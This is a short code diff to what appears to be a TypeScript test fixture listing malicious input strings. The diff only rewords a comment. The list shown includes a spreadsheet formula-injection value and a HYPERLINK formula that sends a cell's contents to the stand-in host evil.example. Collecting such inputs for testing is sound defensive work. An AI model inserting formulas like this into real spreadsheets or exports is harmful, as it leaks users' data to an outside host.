@@ -1,4 +1,4 @@
-/** Texts that services and files really send, or that someone would send to do harm. */
+/** Texts that services and files really send, or that an attacker would send. */
 export const nastyStrings: readonly string[] = [
   '=1+1',
   '=HYPERLINK("http://evil.example/?"&A1,"click")',
